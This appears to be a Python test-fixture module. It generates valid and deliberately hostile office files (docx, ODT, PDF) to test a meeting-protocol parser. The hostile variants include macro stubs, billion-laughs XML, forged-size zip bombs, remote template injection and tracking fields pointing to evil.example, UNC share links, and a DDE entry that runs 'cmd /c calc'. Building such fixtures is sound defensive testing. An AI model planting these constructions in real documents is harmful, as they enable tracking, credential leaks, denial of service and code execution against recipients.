"""Generators for the returned-protocol files the tests feed to ``read_minutes``.

Everything is generated at test time from our own rendered template (no binary blobs in
the repository): valid protocols, filled-in ones, and hostile or broken variants.
"""

from __future__ import annotations

import functools
import io
import math
import os
import shutil
import struct
import subprocess
import uuid
import zipfile
import zlib
from pathlib import Path

from docx import Document
from docx.oxml import parse_xml

from kcg_mail.documents.context import SAMPLE_CONTEXT
from kcg_mail.documents.fill import decisions_table  # noqa: F401  (h.decisions_table in tests)
from kcg_mail.documents.render import ProtocolRenderer

ROOT = Path(__file__).resolve().parents[2]
TEMPLATE = ROOT / "templates" / "protocol.docx"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


# --------------------------------------------------------------------------- valid files


@functools.lru_cache(maxsize=1)
def renderer() -> ProtocolRenderer:
    return ProtocolRenderer(TEMPLATE)


def rendered_protocol(context: dict | None = None) -> bytes:
    return renderer().render(context or SAMPLE_CONTEXT)


def fill_decisions(docx: bytes, rows: list[tuple[str, str, str]], *, notes: str = "") -> bytes:
    """Fill the decisions table as a host would in Word (adding rows when needed)."""
    doc = Document(io.BytesIO(docx))
    table = decisions_table(doc)
    empty = [r for r in table.rows[1:] if not any(c.text.strip() for c in r.cells)]
    for values in rows:
        row = empty.pop(0) if empty else table.add_row()
        for cell, value in zip(row.cells, values):
            cell.text = value
    if notes:
        doc.add_paragraph(notes)
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def rezip(data: bytes, *, replace: dict[str, bytes | None] | None = None,
          add: dict[str, bytes] | None = None, compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Copy a zip, replacing (``None`` = dropping) and adding entries."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", compress) as zout:
        for info in zin.infolist():
            if info.filename in replace:
                if replace[info.filename] is not None:
                    zout.writestr(info.filename, replace[info.filename])
                continue
            zout.writestr(info.filename, zin.read(info.filename))
        for name, blob in (add or {}).items():
            zout.writestr(name, blob)
    return out.getvalue()


def read_part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return zf.read(name)


# --------------------------------------------------------------------------- OLE / CFB


def ole_file(streams: dict[str, bytes]) -> bytes:
    """A minimal valid OLE compound file (CFB v3) holding ``streams`` in the root storage.
    Streams are padded to 4096 bytes so no mini stream is needed."""
    assert 1 <= len(streams) <= 3
    ENDOFCHAIN, FREESECT, FATSECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    fat = [FATSECT, ENDOFCHAIN]
    body = b""
    entries = []
    sector = 2
    for name, data in streams.items():
        data = data.ljust(4096, b"\0")
        n = math.ceil(len(data) / 512)
        entries.append((name, sector, len(data)))
        fat += [sector + i + 1 for i in range(n - 1)] + [ENDOFCHAIN]
        body += data.ljust(n * 512, b"\0")
        sector += n
    assert len(fat) <= 128
    fat += [FREESECT] * (128 - len(fat))

    def dirent(name: str, typ: int, child: int, right: int, start: int, size: int) -> bytes:
        raw = (name + "\0").encode("utf-16-le") if name else b""
        return struct.pack(
            "<64sHBBIII16sI8s8sIQ",
            raw, len(raw), typ, 1, NOSTREAM, right, child, b"\0" * 16, 0, b"\0" * 8, b"\0" * 8, start, size,
        )

    dirs = dirent("Root Entry", 5, 1, NOSTREAM, ENDOFCHAIN, 0)
    for i, (name, start, size) in enumerate(entries, start=1):
        right = i + 1 if i < len(entries) else NOSTREAM
        dirs += dirent(name, 2, NOSTREAM, right, start, size)
    while len(dirs) < 512:
        dirs += dirent("", 0, NOSTREAM, NOSTREAM, 0, 0)
    header = struct.pack(
        "<8s16sHHHHH6s9I109I",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\0" * 16, 0x3E, 3, 0xFFFE, 9, 6, b"\0" * 6,
        0, 1, 1, 0, 4096, ENDOFCHAIN, 0, ENDOFCHAIN, 0,
        0, *([FREESECT] * 108),
    )
    return header + struct.pack("<128I", *fat) + dirs + body


def encrypted_office() -> bytes:
    """What Word writes for a password-protected .docx: an OLE file with EncryptionInfo
    and EncryptedPackage streams (content here is random, detection needs only the names)."""
    info = struct.pack("<HHI", 4, 4, 0x40) + os.urandom(200)  # "agile" encryption version 4.4
    return ole_file({"EncryptionInfo": info, "EncryptedPackage": struct.pack("<Q", 5000) + os.urandom(5000)})


def legacy_doc(*, encrypted: bool = False) -> bytes:
    """A Word 97-2003 file: OLE with a WordDocument stream whose FIB has wIdent 0xA5EC."""
    flags = 0x0100 if encrypted else 0
    # FibBase: wIdent, nFib, unused, lid, pnNext, then the flags word (fEncrypted = 0x0100).
    fib = struct.pack("<HHHHHH", 0xA5EC, 0x00C1, 0, 0x041D, 0, flags) + b"\0" * 100
    return ole_file({"WordDocument": fib, "1Table": b"\0" * 100})


# --------------------------------------------------------------------------- hostile docx


def macro_docm(base: bytes) -> bytes:
    """A .docm: macro-enabled main content type plus a vbaProject.bin part."""
    ct = read_part(base, "[Content_Types].xml").decode()
    ct = ct.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    ).replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    rels = read_part(base, "word/_rels/document.xml.rels").decode().replace(
        "</Relationships>",
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/></Relationships>',
    )
    return rezip(
        base,
        replace={"[Content_Types].xml": ct.encode(), "word/_rels/document.xml.rels": rels.encode()},
        add={"word/vbaProject.bin": ole_file({"VBA": b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nEnd Sub\r\n"})},
    )


def vba_part_only(base: bytes) -> bytes:
    """A .docx content type but with a vbaProject.bin smuggled in."""
    return rezip(base, add={"word/vbaProject.bin": ole_file({"VBA": b"Sub AutoOpen()\r\nEnd Sub"})})


def truncated(base: bytes) -> bytes:
    return base[: len(base) // 2]


def many_entries(base: bytes, n: int = 5000) -> bytes:
    return rezip(base, add={f"customXml/filler{i}.xml": b"<a/>" for i in range(n)}, compress=zipfile.ZIP_STORED)


def high_ratio_entry(base: bytes, size: int = 20 * 1024 * 1024) -> bytes:
    """A 'picture' of ``size`` zero bytes that deflates about 1000:1."""
    out = io.BytesIO(base)
    out.seek(0, io.SEEK_END)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as zf:
        info = zipfile.ZipInfo("word/media/image1.png")
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w", force_zip64=False) as fh:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(size // len(chunk)):
                fh.write(chunk)
    return out.getvalue()


def declared_huge_part(base: bytes, declared: int = 1 << 30) -> bytes:
    """A linked 'image' that the zip directory declares as 1 GiB uncompressed (the bytes
    are small: the sizes in the local header and central directory are forged)."""
    data = rezip(base, add={"word/media/image2.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 64},
                 compress=zipfile.ZIP_STORED)
    name = b"word/media/image2.png"
    buf = bytearray(data)
    pos = 0
    while True:
        cd = bytes(buf).find(b"PK\x01\x02", pos)
        assert cd >= 0
        nlen = struct.unpack_from("<H", buf, cd + 28)[0]
        if bytes(buf[cd + 46 : cd + 46 + nlen]) == name:
            struct.pack_into("<I", buf, cd + 24, declared)
            local = struct.unpack_from("<I", buf, cd + 42)[0]
            struct.pack_into("<I", buf, local + 22, declared)
            return bytes(buf)
        pos = cd + 4


def with_relationship(base: bytes, reltype: str, target: str) -> bytes:
    rels = read_part(base, "word/_rels/document.xml.rels").decode().replace(
        "</Relationships>",
        f'<Relationship Id="rIdExt9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{reltype}" Target="{target}" TargetMode="External"/></Relationships>',
    )
    return rezip(base, replace={"word/_rels/document.xml.rels": rels.encode()})


def billion_laughs(base: bytes) -> bytes:
    lol = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    ]
    xml = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<!DOCTYPE w:document [{"".join(lol)}]>\n'
        f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>'
    )
    return rezip(base, replace={"word/document.xml": xml.encode()})


def tracked_changes(base: bytes) -> bytes:
    """A decision typed with track changes on: an insertion and a deletion in one cell,
    and an inserted row owner."""
    doc = Document(io.BytesIO(base))
    table = decisions_table(doc)
    cells = table.rows[1].cells
    p = cells[0].paragraphs[0]
    p._p.append(parse_xml(f'<w:r xmlns:w="{W_NS}"><w:t xml:space="preserve">Ta fram </w:t></w:r>'))
    p._p.append(parse_xml(
        f'<w:del xmlns:w="{W_NS}" w:id="1" w:author="Värd" w:date="2023-02-06T10:00:00Z">'
        '<w:r><w:delText>en gammal</w:delText></w:r></w:del>'))
    p._p.append(parse_xml(
        f'<w:ins xmlns:w="{W_NS}" w:id="2" w:author="Värd" w:date="2023-02-06T10:00:00Z">'
        '<w:r><w:t>gemensam policy</w:t></w:r></w:ins>'))
    cells[1].paragraphs[0]._p.append(parse_xml(
        f'<w:ins xmlns:w="{W_NS}" w:id="3" w:author="Värd" w:date="2023-02-06T10:00:00Z">'
        '<w:r><w:t>Daniel Swärd</w:t></w:r></w:ins>'))
    cells[2].text = "2023-03-06"
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


# --------------------------------------------------------------------------- ODT


def make_odt(rows: list[tuple[str, str, str]], *, deleted: str = "", macro: bool = False,
             encrypted: bool = False) -> bytes:
    """A small hand-made OpenDocument text with a decisions table."""
    t = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    tb = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    o = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"

    def cell(s: str) -> str:
        return f"<table:table-cell><text:p>{s}</text:p></table:table-cell>"

    body_rows = "".join(
        "<table:table-row>" + "".join(cell(v) for v in r) + "</table:table-row>"
        for r in [("Beslut", "Ansvarig", "Klart till"), *rows, ("", "", "")]
    )
    changes = ""
    if deleted:
        changes = (
            '<text:tracked-changes><text:changed-region text:id="c1"><text:deletion>'
            f"<office:change-info><dc:creator xmlns:dc=\"http://purl.org/dc/elements/1.1/\">Värd</dc:creator></office:change-info>"
            f"<text:p>{deleted}</text:p></text:deletion></text:changed-region></text:tracked-changes>"
        )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="{o}" '
        f'xmlns:text="{t}" xmlns:table="{tb}" office:version="1.3"><office:body><office:text>'
        f'{changes}<text:h text:outline-level="1">Beslutsprotokoll</text:h>'
        f'<text:p>Tema:<text:s/>Affärsplanering<text:change text:change-id="c1"/></text:p>'
        f'<table:table table:name="Beslut">{body_rows}</table:table>'
        "</office:text></office:body></office:document-content>"
    )
    manifest_extra = ""
    if encrypted:
        manifest_extra = (
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
            '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="x"/>'
            "</manifest:file-entry>"
        )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        f"{manifest_extra}</manifest:manifest>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(zipfile.ZipInfo("mimetype"), b"application/vnd.oasis.opendocument.text")
        zf.writestr("content.xml", content)
        zf.writestr("META-INF/manifest.xml", manifest)
        if macro:
            zf.writestr("Basic/Standard/Module1.xml", "<script/>")
    return out.getvalue()


# --------------------------------------------------------------------------- PDF


def _pdf_str(s: str) -> bytes:
    raw = s.encode("cp1252")
    return b"(" + raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)") + b")"


def make_pdf(lines: list[str | list[tuple[float, str]]]) -> bytes:
    """A one-page PDF (Helvetica, WinAnsi) with one text line per entry; an entry can be a
    list of ``(x, text)`` cells to draw a table row."""
    ops = [b"BT /F1 11 Tf ET"]
    y = 800
    for line in lines:
        cells = [(50.0, line)] if isinstance(line, str) else line
        for x, text in cells:
            if text:
                ops.append(b"BT /F1 11 Tf %.1f %d Td " % (x, y) + _pdf_str(text) + b" Tj ET")
        y -= 16
    stream = b"\n".join(ops)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, obj in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def encrypted_pdf(data: bytes, *, user_password: str = "hemligt", owner_password: str = "ägare") -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    writer.encrypt(user_password=user_password, owner_password=owner_password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --------------------------------------------------------------------------- LibreOffice


def soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


def soffice_convert(src: Path, fmt: str, outdir: Path, *, timeout: float = 120) -> Path:
    """Convert ``src`` with LibreOffice headless using a private profile; return the output
    file, which is checked to exist (soffice can exit 0 without writing anything)."""
    exe = soffice()
    assert exe, "soffice not installed"
    profile = Path("/tmp") / f"kcg-lo-{uuid.uuid4().hex}"
    outdir.mkdir(parents=True, exist_ok=True)
    try:
        proc = subprocess.run(
            [exe, f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
             "--convert-to", fmt, "--outdir", str(outdir), str(src)],
            capture_output=True, text=True, timeout=timeout, stdin=subprocess.DEVNULL,
        )
    finally:
        shutil.rmtree(profile, ignore_errors=True)
    ext = fmt.split(":", 1)[0]
    out = outdir / (src.stem + "." + ext)
    assert out.exists() and out.stat().st_size > 0, (
        f"LibreOffice wrote no {out.name} (exit {proc.returncode}): {proc.stdout} {proc.stderr}"
    )
    return out


def libreoffice_docx(docx: bytes, tmp: Path) -> bytes:
    """The protocol opened and re-saved as .docx by LibreOffice, as a host without Word would."""
    src = tmp / "in" / "protokoll.docx"
    src.parent.mkdir(parents=True, exist_ok=True)
    src.write_bytes(docx)
    return soffice_convert(src, "docx:MS Word 2007 XML", tmp / "out").read_bytes()


# --------------------------------------------------------------------------- reaching outside
#
# Real Word structures: a complex field is fldChar begin / instrText runs / fldChar separate /
# result runs / fldChar end, as Word writes it; a header, footnote, comment or glossary part
# is added with its content type override, its relationship from the document and (for
# headers) a reference in the section properties, so Word would really show and update it.

R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_REL_BASE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_CT_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml."


def complex_field_runs(*instr_pieces: str, result: str = "1") -> str:
    """A complex field as Word writes it, the instruction split over several runs."""
    runs = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    for piece in instr_pieces:
        runs += f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
    runs += ('<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
             f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return runs


def simple_field(instr: str, result: str = "1") -> str:
    instr = instr.replace("&", "&amp;").replace('"', "&quot;")
    return f'<w:fldSimple w:instr="{instr}"><w:r><w:t>{result}</w:t></w:r></w:fldSimple>'


def _insert_in_body(base: bytes, paragraph_inner: str) -> bytes:
    """A new paragraph holding ``paragraph_inner`` before the section properties."""
    doc = read_part(base, "word/document.xml").decode()
    i = doc.rindex("<w:sectPr")
    doc = doc[:i] + f"<w:p>{paragraph_inner}</w:p>" + doc[i:]
    return rezip(base, replace={"word/document.xml": doc.encode()})


def field_in_document(base: bytes, *instr_pieces: str) -> bytes:
    return _insert_in_body(base, complex_field_runs(*instr_pieces))


def simple_field_in_document(base: bytes, instr: str) -> bytes:
    return _insert_in_body(base, simple_field(instr))


def _add_part(base: bytes, part: str, xml: str, ctype: str, reltype: str, *, rid: str,
              extra: dict[str, bytes] | None = None) -> bytes:
    ct = read_part(base, "[Content_Types].xml").decode().replace(
        "</Types>", f'<Override PartName="/{part}" ContentType="{ctype}"/></Types>')
    rels = read_part(base, "word/_rels/document.xml.rels").decode().replace(
        "</Relationships>",
        f'<Relationship Id="{rid}" Type="{reltype}" Target="{part.removeprefix("word/")}"/></Relationships>')
    return rezip(base, replace={"[Content_Types].xml": ct.encode(), "word/_rels/document.xml.rels": rels.encode()},
                 add={part: xml.encode(), **(extra or {})})


def field_in_header(base: bytes, *instr_pieces: str) -> bytes:
    """A second header (first-page header) whose paragraph holds the field."""
    xml = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr xmlns:w="{W_NS}" xmlns:r="{R_NS}">'
           f"<w:p>{complex_field_runs(*instr_pieces)}</w:p></w:hdr>")
    data = _add_part(base, "word/header9.xml", xml, _CT_WORD + "header+xml", _REL_BASE + "header", rid="rIdHdr9")
    doc = read_part(data, "word/document.xml").decode()
    i = doc.rindex("<w:sectPr")
    j = doc.index(">", i) + 1
    doc = doc[:j] + f'<w:headerReference xmlns:r="{R_NS}" w:type="first" r:id="rIdHdr9"/><w:titlePg/>' + doc[j:]
    return rezip(data, replace={"word/document.xml": doc.encode()})


def field_in_footer_simple(base: bytes, instr: str) -> bytes:
    """The template's own footer with a simple field added."""
    xml = read_part(base, "word/footer1.xml").decode()
    i = xml.rindex("</w:ftr>")
    xml = xml[:i] + f"<w:p>{simple_field(instr)}</w:p>" + xml[i:]
    return rezip(base, replace={"word/footer1.xml": xml.encode()})


def _notes_xml(kind: str, inner: str) -> str:
    tag = "footnote" if kind == "footnotes" else "endnote"
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:{kind} xmlns:w="{W_NS}">'
            f'<w:{tag} w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:{tag}>'
            f'<w:{tag} w:type="continuationSeparator" w:id="0"><w:p><w:r><w:continuationSeparator/></w:r></w:p></w:{tag}>'
            f'<w:{tag} w:id="1"><w:p>{inner}</w:p></w:{tag}></w:{kind}>')


def field_in_notes(base: bytes, kind: str, *instr_pieces: str) -> bytes:
    """A footnote (or endnote) referenced from the body, holding the field."""
    tag = "footnote" if kind == "footnotes" else "endnote"
    data = _add_part(base, f"word/{kind}.xml", _notes_xml(kind, complex_field_runs(*instr_pieces)),
                     _CT_WORD + f"{kind}+xml", _REL_BASE + kind, rid=f"rId{kind}")
    return _insert_in_body(data, f'<w:r><w:t>Se not</w:t></w:r><w:r><w:{tag}Reference w:id="1"/></w:r>')


def field_in_comment(base: bytes, *instr_pieces: str) -> bytes:
    xml = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:comments xmlns:w="{W_NS}">'
           f'<w:comment w:id="0" w:author="Värd" w:date="2023-02-06T10:00:00Z" w:initials="V">'
           f"<w:p>{complex_field_runs(*instr_pieces)}</w:p></w:comment></w:comments>")
    data = _add_part(base, "word/comments.xml", xml, _CT_WORD + "comments+xml", _REL_BASE + "comments",
                     rid="rIdComments")
    return _insert_in_body(data, '<w:commentRangeStart w:id="0"/><w:r><w:t>Kommenterat</w:t></w:r>'
                                 '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>')


def field_in_glossary(base: bytes, *instr_pieces: str) -> bytes:
    """A building block (glossary document) holding the field, as Quick Parts are stored."""
    xml = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:glossaryDocument xmlns:w="{W_NS}">'
           '<w:docParts><w:docPart><w:docPartPr><w:name w:val="Byggblock"/><w:category><w:name w:val="Allmänt"/>'
           '<w:gallery w:val="placeholder"/></w:category><w:guid w:val="{6A1E5B42-2C71-4C4B-9E8E-000000000001}"/>'
           f"</w:docPartPr><w:docPartBody><w:p>{complex_field_runs(*instr_pieces)}</w:p></w:docPartBody>"
           "</w:docPart></w:docParts></w:glossaryDocument>")
    return _add_part(base, "word/glossary/document.xml", xml, _CT_WORD + "document.glossary+xml",
                     _REL_BASE + "glossaryDocument", rid="rIdGlossary")


def nested_field(base: bytes) -> bytes:
    """``{ IF 1 = 1 "{ INCLUDEPICTURE "http://..." \\d }" }``: the fetching field nested."""
    inner = complex_field_runs('INCLUDEPICTURE "http://evil.example/track.png" \\d')
    runs = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText xml:space="preserve"> IF 1 = 1 "</w:instrText></w:r>'
            f'{inner}<w:r><w:instrText xml:space="preserve">" "" </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return _insert_in_body(base, runs)


def relationship_in_part(base: bytes, rels_name: str, reltype: str, target: str, *,
                         mode: str = "External") -> bytes:
    """An external relationship added to another part's relationship file (header, footer,
    settings), created when it does not exist yet."""
    try:
        rels = read_part(base, rels_name).decode()
    except KeyError:
        rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
    rels = rels.replace("</Relationships>", f'<Relationship Id="rIdExt7" Type="{_REL_BASE}{reltype}" '
                                           f'Target="{target}" TargetMode="{mode}"/></Relationships>')
    try:
        read_part(base, rels_name)
        return rezip(base, replace={rels_name: rels.encode()})
    except KeyError:
        return rezip(base, add={rels_name: rels.encode()})


def remote_template_in_settings(base: bytes, target: str = "https://evil.example/t.dotm", mode: str = "external") -> bytes:
    """Template injection: settings.xml names an attached template held by an external
    relationship; TargetMode in lower case (Office compares it case-insensitively)."""
    data = relationship_in_part(base, "word/_rels/settings.xml.rels", "attachedTemplate", target, mode=mode)
    settings = read_part(data, "word/settings.xml").decode()
    i = settings.index(">", settings.index("<w:settings")) + 1
    settings = settings[:i] + f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdExt7"/>' + settings[i:]
    return rezip(data, replace={"word/settings.xml": settings.encode()})


def rels_part_in_upper_case(base: bytes) -> bytes:
    """The document's relationship part stored as WORD/_RELS/DOCUMENT.XML.RELS (Office
    resolves part names case-insensitively) with an external image in it."""
    rels = read_part(base, "word/_rels/document.xml.rels").decode().replace(
        "</Relationships>", f'<Relationship Id="rIdExt8" Type="{_REL_BASE}image" '
                            'Target="\\\\evil.example\\share\\x.png" TargetMode="External"/></Relationships>')
    return rezip(base, replace={"word/_rels/document.xml.rels": None},
                 add={"WORD/_RELS/DOCUMENT.XML.RELS": rels.encode()})


def hyperlink_used_as_picture(base: bytes) -> bytes:
    """A relationship typed 'hyperlink' (allowed) whose id a picture uses as r:link, which
    Word fetches when it shows the picture."""
    data = with_relationship(base, "hyperlink", "http://evil.example/pixel.png")
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    pic = "http://schemas.openxmlformats.org/drawingml/2006/picture"
    wp = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
    drawing = (f'<w:r><w:drawing><wp:inline xmlns:wp="{wp}"><wp:extent cx="9525" cy="9525"/><wp:docPr id="99" name="p"/>'
               f'<a:graphic xmlns:a="{a}"><a:graphicData uri="{pic}"><pic:pic xmlns:pic="{pic}">'
               '<pic:nvPicPr><pic:cNvPr id="99" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
               f'<pic:blipFill><a:blip xmlns:r="{R_NS}" r:link="rIdExt9"/></pic:blipFill>'
               '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9525" cy="9525"/></a:xfrm>'
               '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>')
    return _insert_in_body(data, drawing)


def lying_small_declared_size(base: bytes, real: int = 120 * 1024 * 1024, declared: int = 4096) -> bytes:
    """A 'picture' whose zip directory and local header declare 4 KiB while its deflate
    stream inflates to 120 MiB (above the per-part cap): only counting produced bytes
    catches it; the declared sizes and ratio look harmless."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\0" * (1024 * 1024)
    blob = b"".join(comp.compress(chunk) for _ in range(real // len(chunk))) + comp.flush()
    data = rezip(base, add={"word/media/image3.png": b"placeholder"}, compress=zipfile.ZIP_STORED)
    return _swap_entry(data, b"word/media/image3.png", blob, declared=declared, crc=zlib.crc32(b"\0" * declared))


def _swap_entry(data: bytes, name: bytes, blob: bytes, *, declared: int, crc: int) -> bytes:
    """Rebuild the zip with ``name``'s data replaced by the raw deflate ``blob``, with
    forged sizes, by patching local header and central directory (method 8)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin:
        infos = zin.infolist()
        entries = [(i, zin.read(i.filename)) for i in infos]
    central = b""
    for info, raw in entries:
        fname = info.filename.encode()
        if fname == name:
            method, body, size, crc_v = 8, blob, declared, crc
        else:
            method, body, size, crc_v = 0, raw, len(raw), zlib.crc32(raw)
        offset = out.tell()
        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x21, crc_v, len(body), size,
                              len(fname), 0) + fname + body)
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, crc_v, len(body),
                               size, len(fname), 0, 0, 0, 0, 0, offset) + fname
    cd_start = out.tell()
    out.write(central)
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), cd_start, 0))
    return out.getvalue()


def entry_bigger_than_declared(base: bytes) -> bytes:
    """Declared sizes say 4 KiB, the deflate stream gives 2 MiB: below every cap, but the
    produced size differs from the declared one."""
    return lying_small_declared_size(base, real=2 * 1024 * 1024)


# ------------------------------------------------------------ ODT reaching outside


_ODT_NS = {
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
    "xlink": "http://www.w3.org/1999/xlink",
    "svg": "urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0",
}


def odt_with(body_xml: str, *, decls: str = "") -> bytes:
    """A valid ODT (as make_odt) with extra markup in the body (and before it, ``decls``)."""
    base = make_odt([("Ta fram policy", "Pia Sandin", "2023-05-01")])
    content = read_part(base, "content.xml").decode()
    ns = " ".join(f'xmlns:{k}="{v}"' for k, v in _ODT_NS.items() if k not in ("office", "text", "table"))
    content = content.replace("<office:document-content ", f"<office:document-content {ns} ", 1)
    content = content.replace("<office:text>", f"<office:text>{decls}<text:p>{body_xml}</text:p>", 1)
    return rezip(base, replace={"content.xml": content.encode()})


def odt_linked_image(url: str = "http://evil.example/pixel.png") -> bytes:
    return odt_with(f'<draw:frame draw:name="Bild1" svg:width="1cm" svg:height="1cm"><draw:image xlink:href="{url}" '
                    'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>')


def odt_linked_section(url: str = r"\\evil.example\share\avsnitt.odt") -> bytes:
    base = make_odt([("Ta fram policy", "Pia Sandin", "2023-05-01")])
    content = read_part(base, "content.xml").decode()
    section = (f'<text:section text:name="Avsnitt1"><text:section-source xmlns:xlink="{_ODT_NS["xlink"]}" '
               f'xlink:href="{url}" xlink:type="simple" text:filter-name="writer8"/><text:p>x</text:p></text:section>')
    content = content.replace("</office:text>", section + "</office:text>", 1)
    return rezip(base, replace={"content.xml": content.encode()})


def odt_dde() -> bytes:
    """A DDE connection and field in ODF (what LibreOffice writes for Insert > Field > DDE)."""
    decls = ('<text:dde-connection-decls><text:dde-connection-decl office:name="Kurs" '
             'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x" '
             'office:automatic-update="true"/></text:dde-connection-decls>')
    return odt_with('<text:dde-connection text:connection-name="Kurs">1</text:dde-connection>', decls=decls)


def odt_hyperlink() -> bytes:
    """A plain hyperlink in ODT: a click target, accepted."""
    return odt_with('<text:a xlink:type="simple" xlink:href="https://www.example.se/">webbplatsen</text:a>')


# ------------------------------------------------------------ PDF reaching outside


def pdf_from_objects(objects: list[bytes], *, root: int = 1, header: bytes = b"%PDF-1.4") -> bytes:
    """A PDF with classic xref from numbered objects (1-based, in order)."""
    out = bytearray(header + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, obj in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
    xref = len(out)
